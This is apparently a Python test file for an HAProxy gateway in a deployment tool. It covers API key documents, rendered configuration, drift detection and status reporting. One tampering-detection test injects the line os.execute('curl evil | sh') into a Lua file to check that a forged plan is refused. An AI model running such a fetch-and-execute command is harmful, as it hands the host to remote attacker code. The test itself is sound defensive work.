"""The gateway's pure core: ApiKey documents, the rendered HAProxy configuration and maps, the gateway in a plan
(create, no-op, drift, interim servers during a roll, removal), the replicas' units behind a gateway, status."""

from __future__ import annotations

import time
from pathlib import Path

from engine_ctl.cli.views.plan import plan_markdown, plan_text
from engine_ctl.core.documents.apikey import key_document, key_sha256, parse_expiry
from engine_ctl.core.documents.inventory import Host, Inventory
from engine_ctl.core.documents.loader import load_documents
from engine_ctl.core.documents.yamlsource import parse_text
from engine_ctl.core.fit.hostfacts import HostFacts, UnitFact
from engine_ctl.core.fit.modelfacts import ModelFacts
from engine_ctl.core.model import ApiKey
from engine_ctl.core.plan.gateway import gateway_after_apply, gateway_tampering, plan_gateways
from engine_ctl.core.plan.planner import make_plan
from engine_ctl.core.plan.status import deployment_status
from engine_ctl.core.record.model import DeploymentRecord, GatewayRecord, ReplicaRecord, State
from engine_ctl.core.render.gateway import (
    BODY_LIMIT,
    BUFSIZE,
    GATEWAY_UNIT,
    GatewayBackend,
    GatewayServer,
    key_maps,
    render_gateway,
    unix_sockets,
)
from tests.fleetfacts import gpu_host
from tests.helpers import run

SHA = key_sha256("ak-example")
SHAPE = {"m": ModelFacts(block_count=2, head_count=4, head_count_kv=4, embedding_length=64, weights_bytes=17_000_000)}
MODEL = "kind: Model\nmetadata: {name: m}\nspec: {format: gguf, path: m/m.gguf, parameters: 4170048}\n"


def load(text: str):  # type: ignore[no-untyped-def]
    docs, problems = parse_text(text, "keys.yaml")
    assert not problems
    return load_documents(docs)


def test_an_api_key_document_holds_the_hash_scope_and_expiry() -> None:
    text = key_document("ci-bot", SHA, ["chat"], "2099-01-31")
    result = load(text)
    assert not result.diagnostics
    (key,) = result.desired.api_keys
    assert (key.name, key.sha256, key.deployments) == ("ci-bot", SHA, ("chat",))
    assert key.expires == parse_expiry("2099-01-31") == 4073500800


def test_bad_api_key_documents_name_their_fields() -> None:
    bad = "kind: ApiKey\nmetadata: {name: Bot}\nspec: {sha256: ak-plaintext, expires: someday}\n"
    messages = [(d.field, str(d.location)) for d in load(bad).diagnostics]
    assert ("metadata.name", "keys.yaml:2:18") in messages
    assert ("spec.sha256", "keys.yaml:3:16") in messages
    assert ("spec.expires", "keys.yaml:3:39") in messages
    twice = key_document("a", SHA) + "---\n" + key_document("b", SHA)
    assert any("the same key as ApiKey 'a'" in d.message for d in load(twice).diagnostics)


def gateway_host(name: str = "edge-01", port: int = 8800) -> Host:
    return Host(name=name, address="10.0.0.2", roles=("gateway",), gateway_port=port)


def test_the_configuration_routes_on_model_with_the_seeds_balancing_and_checks() -> None:
    backends = [GatewayBackend(deployment="chat", servers=(GatewayServer(name="r0a", address="10.0.0.5", port=8000,
                                                                          maxconn=4),))]  # fmt: skip
    g = render_gateway(gateway_host(), backends, [ApiKey(name="k", sha256=SHA)])
    cfg = g.files["haproxy.cfg"]
    assert f"tune.bufsize {BUFSIZE}" in cfg and f"gt {BODY_LIMIT}" in cfg and "json_query('$.model')" in cfg
    assert "balance leastconn" in cfg and "server r0a 10.0.0.5:8000 maxconn 4" in cfg
    assert "check inter 5s" in cfg and "fall 3" in cfg and "option httpchk GET /health" in cfg
    assert "retries 3" in cfg and "option redispatch 1" in cfg and "bind *:8800" in cfg
    assert "timeout connect 3s" in cfg
    assert g.files["keys.map"] == f"{SHA} k\n" and g.files["models.map"] == "chat d_chat\n"
    assert "ak-example" not in "".join(g.files.values())
    assert "HOLD_MS = 120000" in g.files["hold.lua"]
    assert "ExecStart=/usr/sbin/haproxy -Ws -f ${CONFIG}" in g.unit_text
    assert "ExecReload=/bin/kill -USR2 $MAINPID" in g.unit_text


def test_the_gateway_keeps_its_request_buffers_in_the_heap() -> None:
    """glibc's malloc serves a request's BUFSIZE buffers by mmap above its threshold (128 KiB by default) and trims
    freed heap back to the kernel: the unit's environment (mallopt(3)) keeps them in the heap between requests."""
    unit = render_gateway(gateway_host(), [], []).unit_text
    line = next(ln for ln in unit.splitlines() if "MALLOC_" in ln and ln.startswith("Environment="))
    settings = dict(item.split("=", 1) for item in line.removeprefix("Environment=").split())
    assert int(settings["MALLOC_MMAP_THRESHOLD_"]) > BUFSIZE
    assert int(settings["MALLOC_TRIM_THRESHOLD_"]) >= 16 * BUFSIZE


def test_a_key_change_needs_no_reload_but_a_replica_change_does() -> None:
    server = GatewayServer(name="r0a", address="10.0.0.5", port=8000, maxconn=2)
    one = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(server,))], [])
    keyed = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(server,))],
                           [ApiKey(name="k", sha256=SHA)])  # fmt: skip
    moved = server.model_copy(update={"port": 8001})
    other = render_gateway(gateway_host(), [GatewayBackend(deployment="chat", servers=(moved,))], [])
    assert one.reload_sha256 == keyed.reload_sha256 and one.file_sha256 != keyed.file_sha256
    assert one.reload_sha256 != other.reload_sha256


def test_key_scopes_and_expiry_maps() -> None:
    keys = [ApiKey(name="all", sha256="a" * 64), ApiKey(name="one", sha256="b" * 64, deployments=("chat",),
                                                         expires=1800000000)]  # fmt: skip
    maps = key_maps(keys, ["chat", "embed"])
    assert maps["scopes.map"] == {"all/chat": "1", "all/embed": "1", "one/chat": "1"}
    assert maps["expires.map"] == {"one": "1800000000"}


def cpu_host(name: str, address: str) -> HostFacts:
    return gpu_host(name, [], cores=8, memory_gib=32).model_copy(update={"haproxy_version": "HAProxy version 2.6"})


def world() -> tuple[Inventory, dict[str, HostFacts]]:
    inv = Inventory(
        hosts=(
            Host(name="edge", address="10.0.0.2", roles=("gateway",), models_dir="/srv/models"),
            Host(name="cpu-1", address="10.0.0.5", models_dir="/srv/models"),
        )
    )
    return inv, {"edge": cpu_host("edge", "10.0.0.2"), "cpu-1": cpu_host("cpu-1", "10.0.0.5")}


def desired(context: int = 512):  # type: ignore[no-untyped-def]
    text = (
        MODEL
        + "---\nmetadata: {name: chat}\n"
        + f"spec: {{model: m, accelerator: cpu, host: cpu-1, context_length: {context}}}\n"
    )
    return load(text + "---\n" + key_document("k", SHA)).desired


def applied(plan, facts):  # type: ignore[no-untyped-def]
    """What a successful apply records (replicas, gateway) and what the hosts then have; the state has the
    lineage the plan offered (its units' headers carry it)."""
    state = State(lineage=plan.state_lineage)
    units = []
    for c in plan.changes:
        rec = DeploymentRecord(name=c.name, revision=c.revision, spec=c.spec, model=c.model, spec_hash=c.spec_hash,
                               plan=c.fit, state="Ready")  # fmt: skip
        for r in c.replicas:
            rec.replicas.append(ReplicaRecord(index=r.index, slot=r.slot, host=r.host, unit=r.unit, port=r.port,
                                              unit_sha256=r.unit_sha256 or "", revision=r.revision, argv=r.argv,
                                              status="serving"))  # fmt: skip
            units.append(UnitFact(name=r.unit, sha256=r.unit_sha256, active_state="active", sub_state="running"))
        state.deployments[c.name] = rec
    inv, _ = world()
    facts = dict(facts)
    facts["cpu-1"] = facts["cpu-1"].model_copy(update={"units": tuple(units)})
    for g in plan.gateways:
        final = gateway_after_apply(inv.host(g.host), state, {h.name: h for h in inv.hosts}, g)  # type: ignore[arg-type]
        state.gateways[g.host] = GatewayRecord(
            endpoint=g.endpoint, files_sha256=final.file_sha256, unit_sha256=final.unit_sha256,
            config=final.files["haproxy.cfg"],
        )  # fmt: skip
        facts[g.host] = facts[g.host].model_copy(update={
            "gateway_files": final.file_sha256,
            "units": (UnitFact(name=GATEWAY_UNIT, sha256=final.unit_sha256, active_state="active"),),
            "gateway_servers": {"d_chat/r0a": "UP"},
            "gateway_maps": {},  # it answers on its admin socket
        })  # fmt: skip
    return state, facts


def test_a_new_gateway_is_planned_with_its_configuration_and_then_nothing_changes() -> None:
    inv, facts = world()
    plan = make_plan(desired(), State(), inv, facts, SHAPE)
    (g,) = plan.gateways
    assert g.action == ["create"] and g.endpoint == "10.0.0.2:8800"
    assert "server r0a 10.0.0.5:" in g.files["haproxy.cfg"]
    assert g.interim_files is not None and " disabled" in g.interim_files["haproxy.cfg"]
    text = plan_text(plan)
    assert '+ gateway "edge" {' in text and "balance leastconn" not in text, "a new gateway is a summary (issue 26)"
    for line in ("endpoint: http://10.0.0.2:8800/v1", "routes:   chat", "hold:     up to 120 s, at most 100 requests",
                 "threads:  1", "keys:     1 (sha256 only"):  # fmt: skip
        assert line in text, text
    assert len(text.splitlines()) < 60, text
    verbose = plan_text(plan, verbose=True)
    assert "+    balance leastconn" in verbose and "routes:" not in verbose
    markdown = plan_markdown(plan)
    assert "gateway <b>edge</b>" in markdown and "+    balance leastconn" in markdown, "the Markdown keeps it whole"
    assert "tune.bufsize 262144" in plan.model_dump_json(), "--json carries it whole"
    assert "Plan: 2 to add, 0 to change, 0 to destroy." in text
    (chat,) = plan.changes
    (replica,) = chat.replicas
    assert "--host" in replica.argv and replica.argv[replica.argv.index("--host") + 1] == "10.0.0.5"
    assert "--api-key-file" in replica.argv
    assert replica.unit_text is not None
    assert "IPAddressDeny=any\nIPAddressAllow=localhost 10.0.0.2 10.0.0.5\n" in replica.unit_text
    assert "LoadCredential=replica-key:/etc/engine-ctl/replica-key" in replica.unit_text
    state, after = applied(plan, facts)
    again = make_plan(desired(), state, inv, after, SHAPE)
    assert [g.action for g in again.gateways] == [["no-op"]] and not again.has_changes, plan_text(again)


def test_a_hand_edit_is_drift_and_a_roll_plans_the_interim_servers() -> None:
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    edited = dict(after)
    files = dict(after["edge"].gateway_files or {})
    files["haproxy.cfg"] = "0" * 64
    edited["edge"] = after["edge"].model_copy(update={"gateway_files": files})
    plan = make_plan(desired(), state, inv, edited, SHAPE)
    assert [d.detail.split(" (")[0] for d in plan.drift] == ["gateway file haproxy.cfg edited by hand on edge"]
    assert plan.gateways[0].action == ["update"] and plan.has_changes
    rolled = make_plan(desired(1024), state, inv, after, SHAPE)
    (g,) = rolled.gateways
    assert g.action == ["update"] and g.interim_files is not None
    interim = g.interim_files["haproxy.cfg"]
    assert "server r0a 10.0.0.5:" in interim and " disabled" in interim  # old serving, new in maintenance
    assert "server r0b" not in g.files["haproxy.cfg"] or "server r0a" not in g.files["haproxy.cfg"]


def test_a_server_the_running_gateway_sends_to_another_port_is_drift_not_no_changes() -> None:
    """The gateway's file is right, its process is not (HAProxy kept a state file's port across a reload)."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    port = state.deployments["chat"].replicas[0].port
    right = dict(after)
    right["edge"] = after["edge"].model_copy(update={"gateway_addresses": {"d_chat/r0a": f"10.0.0.5:{port}",
                                                                           "d_chat/held": ""}})  # fmt: skip
    assert not make_plan(desired(), state, inv, right, SHAPE).has_changes
    wrong = dict(after)
    wrong["edge"] = after["edge"].model_copy(update={"gateway_addresses": {"d_chat/r0a": f"10.0.0.5:{port + 1}"}})
    plan = make_plan(desired(), state, inv, wrong, SHAPE)
    assert [d.detail for d in plan.drift] == [
        f"the gateway on edge sends d_chat/r0a's requests to 10.0.0.5:{port + 1}, not to 10.0.0.5:{port} as its "
        "configuration says: apply reloads it"
    ]
    assert plan.gateways[0].action == ["update"] and plan.has_changes


def test_an_always_on_replica_an_admin_command_set_aside_is_drift_not_no_changes() -> None:
    """`disable server`, `set server ... state maint|drain` over the admin socket: the files are right, no request
    reaches the replica (and HAProxy keeps it so across reloads). An on-demand slot in MAINT is the scaler's."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    for status in ("MAINT", "DRAIN", "MAINT (resolution)"):
        aside = dict(after)
        aside["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": status}})
        plan = make_plan(desired(), state, inv, aside, SHAPE)
        word = status.split()[0]
        assert [(d.kind, d.detail) for d in plan.drift] == [("set-aside", f"the gateway on edge holds d_chat/r0a in "
                                                             f"{word} (an admin command): no request reaches it; apply "
                                                             "puts it back")]  # fmt: skip
        assert plan.gateways[0].action == ["update"] and plan.has_changes
    for status in ("UP", "DOWN", "no check"):
        fine = dict(after)
        fine["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": status}})
        assert not make_plan(desired(), state, inv, fine, SHAPE).has_changes, status
    asleep = state.model_copy(deep=True)
    asleep.deployments["chat"].replicas[0].on_demand = True
    parked = dict(after)
    parked["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "MAINT"}})
    assert not [d for d in make_plan(desired(), asleep, inv, parked, SHAPE).drift if d.kind == "set-aside"]
    # the hold's backup server set aside (a probe, session 16): a request finding no replica got 503 at once
    hold = dict(after)
    hold["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "UP", "d_chat/held": "MAINT"}})
    (drift,) = make_plan(desired(), state, inv, hold, SHAPE).drift
    assert drift.detail == ("the gateway on edge holds d_chat/held in MAINT (an admin command): a request that finds "
                            "no replica is answered 503 at once, never held (nor its deployment woken); apply puts it "
                            "back")  # fmt: skip


def test_a_route_or_a_weight_changed_in_the_running_gateway_or_a_file_changed_since_it_loaded_is_drift() -> None:
    """What runs is not what the files say though they are: `del map models.map` (404 for the deployment), `set
    weight … 0` (503), or a file whose inode changed after the running worker loaded its configuration (edited,
    reloaded, put back). Before, plan said "No changes" beside each."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    served = {"gateway_maps": {"models.map": {"chat": "d_chat"}}, "gateway_weights": {"d_chat/r0a": "1",
              "d_chat/held": "1"}, "gateway_frontends": {"api": "OPEN", "metrics": "OPEN"},
              "gateway_rate_limits": {"ConnRateLimit": "0", "SessRateLimit": "0", "SslRateLimit": "0"}}  # fmt: skip
    fine = {**after, "edge": after["edge"].model_copy(update=served)}
    assert not make_plan(desired(), state, inv, fine, SHAPE).has_changes
    cases = {
        "gateway_maps": ({"models.map": {}}, "unloaded", "the running gateway on edge (models.map, in memory) lacks "
                         "'chat': apply reloads it"),
        "gateway_weights": ({"d_chat/r0a": "0"}, "set-aside", "the gateway on edge gives d_chat/r0a weight 0 (an "
                            "admin command; its configuration gives 1): no request reaches it; apply puts it back"),
        "gateway_unloaded": (("haproxy.cfg",), "unloaded", "the gateway on edge runs a configuration it loaded before "
                             "haproxy.cfg last changed (a file edited, loaded, then put back): what it runs may not be "
                             "its files; apply reloads it"),
        "gateway_frontends": ({"api": "PAUSED", "metrics": "OPEN"}, "unloaded", "the gateway on edge has its frontend "
                              "api PAUSED (an admin command: `disable frontend`): it takes no connection there; apply "
                              "reloads it"),
        "gateway_rate_limits": ({"ConnRateLimit": "0", "SessRateLimit": "1"}, "unloaded", "the gateway on edge runs "
                                "with SessRateLimit 1 a second (an admin command: `set rate-limit`; its configuration "
                                "sets none): apply reloads it"),
        # a /run cleaner took the hold's socket (a probe, session 16): a held request got 503 at once
        "gateway_missing_sockets": (("/run/engine-ctl-gateway/held-chat.sock",), "unanswered", "the gateway on edge "
                                    "runs without its socket held-chat.sock (deleted under it): a request it holds "
                                    "gets 503 at once, and one for a deployment scaled to zero wakes nothing; apply "
                                    "restarts it"),
    }  # fmt: skip
    for field, (value, kind, detail) in cases.items():
        wrong = {**after, "edge": after["edge"].model_copy(update={**served, field: value})}
        plan = make_plan(desired(), state, inv, wrong, SHAPE)
        assert [(d.kind, d.detail) for d in plan.drift] == [(kind, detail)], field
        assert plan.gateways[0].action == ["update"] and plan.has_changes, field
    routed = {**after, "edge": after["edge"].model_copy(update={**served, "gateway_maps": {"models.map": {
        "chat": "d_chat", "other": "d_chat"}}})}  # fmt: skip
    (d,) = make_plan(desired(), state, inv, routed, SHAPE).drift
    assert d.detail == "the running gateway on edge (models.map, in memory) holds 'other' → 'd_chat', not what the " \
                       "documents give: apply reloads it"  # fmt: skip


def test_the_probe_names_the_unix_sockets_the_configuration_binds_that_are_no_socket(tmp_path: Path) -> None:
    """The probe reads haproxy.cfg's `bind unix@` lines as the renderer writes them (each hold frontend's socket),
    and names those that are no socket on disk: deleted, or a plain file in their place."""
    import socket

    from engine_ctl.shell.remote.facts_probe import config_sockets, is_socket

    server = GatewayServer(name="r0a", address="10.0.0.5", port=8000, maxconn=2)
    backends = [GatewayBackend(deployment=name, servers=(server,)) for name in ("chat", "embed")]
    config = render_gateway(gateway_host(), backends, []).files["haproxy.cfg"]
    bound = unix_sockets(config)
    assert bound == ("/run/engine-ctl-gateway/held-chat.sock", "/run/engine-ctl-gateway/held-embed.sock")
    assert tuple(config_sockets(config.encode())) == bound
    live, plain = tmp_path / "held-a.sock", tmp_path / "held-b.sock"
    with socket.socket(socket.AF_UNIX) as listener:
        listener.bind(str(live))
        plain.write_text("")
        assert is_socket(str(live)) and not is_socket(str(plain)) and not is_socket(str(tmp_path / "gone.sock"))


def test_the_probe_names_the_gateway_files_changed_after_the_running_worker_loaded_them(tmp_path: Path) -> None:
    from engine_ctl.shell.remote.facts_probe import changed_since_load

    for name in ("haproxy.cfg", "hold.lua", "models.map", "keys.map", "internal.key"):
        (tmp_path / name).write_text(name)
    now = time.time()
    assert changed_since_load(str(tmp_path), "Name: HAProxy\nUptime_sec: 0\n", now + 30) == []  # loaded after
    # apply moves the files, then reloads: a worker up for 0 whole seconds, asked 0.9 s after the files changed
    assert changed_since_load(str(tmp_path), "Uptime_sec: 0\n", now + 0.9) == []
    assert changed_since_load(str(tmp_path), "Uptime_sec: 60\n", now + 30) == ["haproxy.cfg", "hold.lua",
                                                                              "models.map"]  # fmt: skip
    assert changed_since_load(str(tmp_path), None, now) is None  # no answer: no verdict
    assert changed_since_load(str(tmp_path), "Unknown command\n", now) is None


def test_a_gateway_host_leaving_the_inventory_is_removed() -> None:
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    without = Inventory(hosts=tuple(h.model_copy(update={"roles": ()}) for h in inv.hosts))
    changes, _ = plan_gateways([], state, without, after, [])
    assert [(c.host, c.action) for c in changes] == [("edge", ["delete"])]


def test_status_gives_the_endpoint_and_members_as_the_gateway_sees_them() -> None:
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    after["cpu-1"] = after["cpu-1"].model_copy(
        update={"health": {str(state.deployments["chat"].replicas[0].port): "200"}}
    )
    status = deployment_status(state.deployments["chat"], after, [("edge", "10.0.0.2:8800")])
    assert status.gateways == ["http://10.0.0.2:8800"] and status.served_model_name == "chat"
    assert status.endpoint is not None and status.endpoint.external == "10.0.0.2:8800"
    assert status.kind == "chat" and [m.ready for m in status.members] == [True]
    down = dict(after)
    down["edge"] = after["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "DOWN"}})
    assert [m.ready for m in deployment_status(state.deployments["chat"], down, [("edge", "e:8800")]).members] == [
        False
    ]
    # what an admin command takes away while the files stay right: the route, the weight, a stopped answer
    for change in ({"gateway_maps": {"models.map": {}}}, {"gateway_weights": {"d_chat/r0a": "0"}},
                   {"gateway_maps": {"models.map": {"chat": "d_chat"}, "stopped.map": {"chat": "01X"}}}):  # fmt: skip
        aside = {**after, "edge": after["edge"].model_copy(update=change)}
        (m,) = deployment_status(state.deployments["chat"], aside, [("edge", "e:8800")]).members
        assert not m.ready, change
    kept = {**after, "edge": after["edge"].model_copy(update={"gateway_maps": {"models.map": {"chat": "d_chat"}},
                                                                "gateway_weights": {"d_chat/r0a": "1"}})}  # fmt: skip
    assert [m.ready for m in deployment_status(state.deployments["chat"], kept, [("edge", "e:8800")]).members] == [True]
    assert status.gateways_down == [] and "gateways_down" not in status.model_dump(mode="json", exclude_defaults=False)
    # the gateway stopped (a probe, session 17: "ready 1/1" and nothing more said it)
    stopped = tuple(u.model_copy(update={"active_state": "inactive"}) if u.name == GATEWAY_UNIT else u
                    for u in after["edge"].units)  # fmt: skip
    off = {**after, "edge": after["edge"].model_copy(update={"units": stopped})}
    assert deployment_status(state.deployments["chat"], off, [("edge", "e:8800")]).gateways_down == [
        "the gateway on edge is inactive: its endpoint answers nothing; engine-ctl apply starts it"
    ]


def test_status_of_a_replica_whose_host_is_out_of_reach_asks_the_gateway() -> None:
    """The engine host's SSH down, the engine serving: every gateway reached has its server UP and routes it, so
    it serves as far as any client can tell. Before, status said Failed, "no replica serves" and 0 behind the
    gateway (a probe, session 15). Where no gateway sees it, it stays unknown, and the reason says why."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    record = state.deployments["chat"]
    cut = {h: f for h, f in after.items() if h != "cpu-1"}
    status = deployment_status(record, cut, [("edge", "e:8800")])
    (i,) = status.instances
    assert i.state == "ready" and i.last_error == ("host cpu-1 unreachable; every gateway reached sends it requests "
                                                   "(its health check passes there)")  # fmt: skip
    assert status.state == "Ready" and [m.ready for m in status.members] == [True]
    down = {**cut, "edge": cut["edge"].model_copy(update={"gateway_servers": {"d_chat/r0a": "DOWN"}})}
    status = deployment_status(record, down, [("edge", "e:8800")])
    assert [i.state for i in status.instances] == ["unknown"] and status.state == "Failed"
    assert status.reason == "no replica is known to serve: their hosts could not be reached"


def test_a_saved_plan_with_an_edited_gateway_is_refused() -> None:
    inv, facts = world()
    plan = make_plan(desired(), State(), inv, facts, SHAPE)
    assert gateway_tampering(plan.gateways, plan.changes, State(lineage=plan.state_lineage), inv) == []
    forged = plan.model_copy(deep=True)
    forged.gateways[0].files["hold.lua"] += "\nos.execute('curl evil | sh')\n"
    forged.gateways[0].files["keys.map"] += "x y z\n"
    problems = gateway_tampering(forged.gateways, forged.changes, State(lineage=forged.state_lineage), inv)
    assert problems == [
        "gateway edge: hold.lua differs from what engine-ctl renders from the plan's inputs",
        "gateway edge: keys.map differs from what engine-ctl renders from the plan's inputs",
    ]


def test_key_new_prints_the_key_once_and_a_document_with_its_hash_only() -> None:
    result = run("key", "new", "ci-bot", "--deployment", "chat", "--expires", "2099-01-31")
    assert result.exit_code == 0, result.output
    (key,) = [w for w in result.stderr.split() if w.startswith("ak-")]
    assert len(key) >= 3 + 43  # 256 bits, base64url
    assert key not in result.stdout
    loaded = load(result.stdout)
    assert not loaded.diagnostics
    (doc,) = loaded.desired.api_keys
    assert (doc.name, doc.sha256, doc.deployments) == ("ci-bot", key_sha256(key), ("chat",))
    assert run("key", "new", "ci-bot").stderr != result.stderr  # a new random key each time
    bad = run("key", "new", "Bad Name")
    assert bad.exit_code == 1 and "lowercase letters" in bad.output


def test_the_files_an_apply_killed_mid_install_left_are_engine_ctls_not_a_hand_edit() -> None:
    """Issue 24 (16, stateful rule corrupt_weights): after an apply was killed between writing a gateway's interim
    files and recording them, the next plan said "haproxy.cfg edited by hand". Apply records what it installs
    before it writes it; the plan names such files as an interrupted apply's, and plans to finish it."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    rolled = make_plan(desired(1024), state, inv, after, SHAPE)
    (g,) = rolled.gateways
    assert g.interim_files is not None
    from engine_ctl.core.render.gateway import sha256

    interim = {n: sha256(t) for n, t in g.interim_files.items()}
    left = dict(after)
    left["edge"] = after["edge"].model_copy(update={"gateway_files": {**(after["edge"].gateway_files or {}),
                                                                      **interim}})  # fmt: skip
    record = state.gateways["edge"]
    state.gateways["edge"] = record.model_copy(update={"installing": {**interim, GATEWAY_UNIT: record.unit_sha256}})
    plan = make_plan(desired(1024), state, inv, left, SHAPE)
    details = [d.detail for d in plan.drift if d.unit == GATEWAY_UNIT]
    assert details and all("interrupted apply" in d for d in details), details
    assert not any("by hand" in d.detail for d in plan.drift) and plan.gateways[0].action == ["update"]
    state.gateways["edge"] = record  # nothing recorded as being installed: a person's edit, said so
    plan = make_plan(desired(1024), state, inv, left, SHAPE)
    assert any("edited by hand" in d.detail for d in plan.drift)


def test_show_of_a_saved_plan_has_the_summary_and_its_configuration_with_verbose(tmp_path: Path) -> None:
    import json

    from engine_ctl.cli.views.plan import plan_json
    from tests.helpers import run

    inv, facts = world()
    saved = tmp_path / "plan.json"
    saved.write_text(json.dumps(plan_json(make_plan(desired(), State(), inv, facts, SHAPE))))
    short = run("show", str(saved))
    assert short.exit_code == 0 and "routes:   chat" in short.stdout and "balance leastconn" not in short.stdout
    whole = run("show", str(saved), "--verbose")
    assert whole.exit_code == 0 and "+    balance leastconn" in whole.stdout, whole.output


def test_the_gateway_running_another_executable_or_command_line_than_its_unit_gives_is_drift() -> None:
    """A wrapper at HAProxy's path that adds `-f /etc/extra/extra.cfg` (a frontend with no key check, on a port of
    its own): before, plan said "No changes" (a probe, session 17). The master's /proc command line and executable
    are compared with what the unit starts (gateway_argv, checked here against the rendered ExecStart)."""
    from engine_ctl.core.render.gateway import gateway_argv

    unit = render_gateway(gateway_host(), [], []).unit_text
    config = next(line.split("=", 2)[2] for line in unit.splitlines() if line.startswith("Environment=CONFIG="))
    start = next(line.partition("=")[2] for line in unit.splitlines() if line.startswith("ExecStart="))
    assert tuple(start.replace("${CONFIG}", config).split()) == gateway_argv()
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)

    def running(**update: object) -> dict[str, HostFacts]:
        units = tuple(u.model_copy(update=update) if u.name == GATEWAY_UNIT else u for u in after["edge"].units)
        return {**after, "edge": after["edge"].model_copy(update={"units": units})}

    assert not make_plan(desired(), state, inv, running(proc_argv=gateway_argv(), proc_exe=gateway_argv()[0]),
                         SHAPE).has_changes  # fmt: skip
    wrapped = running(proc_argv=(*gateway_argv(), "-f", "/etc/extra/extra.cfg"), proc_exe="/usr/sbin/haproxy")
    (d,) = make_plan(desired(), state, inv, wrapped, SHAPE).drift
    assert (d.kind, d.unit, d.detail) == ("launch", GATEWAY_UNIT, "the gateway on edge runs with other arguments "
                                          "than its unit gives (-f /etc/extra/extra.cfg): what it serves may not be "
                                          "its configuration; apply restarts it (a wrapper stays until it is "
                                          "removed)")  # fmt: skip
    other = make_plan(desired(), state, inv, running(proc_argv=gateway_argv(), proc_exe="/usr/sbin/haproxy.real"),
                      SHAPE)  # fmt: skip
    assert other.has_changes and "runs /usr/sbin/haproxy.real, not /usr/sbin/haproxy" in other.drift[0].detail


def test_a_gateway_of_this_state_on_a_host_that_is_no_gateway_host_is_removed() -> None:
    """A gateway whose haproxy.cfg names this state's lineage, on a host the inventory does not make a gateway and
    the state does not record: it answers this state's keys as they were (a key revoked since too). Before, no plan
    named it (a probe, session 17). Another lineage's is that state's, and left alone."""
    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    assert state.lineage
    stray = {**after, "cpu-1": after["cpu-1"].model_copy(update={"gateway_lineage": state.lineage})}
    plan = make_plan(desired(), state, inv, stray, SHAPE)
    (gone,) = [g for g in plan.gateways if g.host == "cpu-1"]
    assert gone.action == ["delete"] and plan.has_changes
    assert gone.reasons == [f"cpu-1 runs a gateway of this state (lineage {state.lineage}) though it is no gateway "
                            "host in the inventory, nor recorded: it answers this state's keys as they were (revoked "
                            "ones too); apply removes it"]  # fmt: skip
    others = {**after, "cpu-1": after["cpu-1"].model_copy(update={"gateway_lineage": "another-state"})}
    assert not [g for g in make_plan(desired(), state, inv, others, SHAPE).gateways if g.host == "cpu-1"]


def test_a_gateway_out_of_reach_is_left_as_it_is_when_no_replica_rolls() -> None:
    """A key revoked while one gateway host cannot be reached: apply revokes it on the gateways it reaches and says
    which one still answers it (a probe, session 17: it revoked none). Where replicas roll, every gateway must drain
    them, so apply fails there as before (out_of_reach is empty)."""
    from engine_ctl.shell.gateway.apply import out_of_reach

    inv, facts = world()
    state, after = applied(make_plan(desired(), State(), inv, facts, SHAPE), facts)
    cut = {h: f for h, f in after.items() if h != "edge"}
    revoked = load(MODEL + "---\nmetadata: {name: chat}\nspec: {model: m, accelerator: cpu, host: cpu-1, "
                   "context_length: 512}\n").desired  # fmt: skip
    keys_only = make_plan(revoked, state, inv, cut, SHAPE, unreachable={"edge": "connection refused"})
    assert [g.host for g in keys_only.gateways] == ["edge"] and not any(c.replicas for c in keys_only.changes)
    assert out_of_reach(keys_only) == ["edge"]
    rolls = make_plan(desired(4096), state, inv, cut, SHAPE, unreachable={"edge": "connection refused"})
    assert any(c.replicas for c in rolls.changes) and out_of_reach(rolls) == []
